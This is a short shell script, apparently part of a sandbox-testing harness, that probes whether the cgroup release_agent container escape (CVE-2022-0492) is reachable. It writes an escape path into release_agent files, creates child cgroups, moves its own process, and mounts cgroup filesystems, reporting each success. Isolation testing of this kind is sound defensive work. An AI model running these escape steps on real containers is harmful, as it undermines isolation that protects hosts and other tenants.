# Lets the kernel run a program outside when a control group empties (CVE-2022-0492).
for group in /sys/fs/cgroup /sys/fs/cgroup/*; do
    # Where nothing can be mounted there are stand-ins, directories of the step's own tree: a group has its files.
    [ "$ATTACK_RUNG" = chroot ] && [ "$(stat -c %d $group)" = "$(stat -c %d /)" ] && continue
    (echo /attack/escape > "$group/release_agent") 2>/dev/null && echo "REACHED: $group/release_agent"
    mkdir "$group/kiln-attack" 2>/dev/null && echo "REACHED: made $group/kiln-attack" && rmdir "$group/kiln-attack"
    (echo $$ > "$group/cgroup.procs") 2>/dev/null && echo "REACHED: $group/cgroup.procs"
done
mkdir -p /mnt/group
for type in cgroup cgroup2; do mount -t $type none /mnt/group 2>/dev/null && echo "REACHED: mounted $type"; done
true
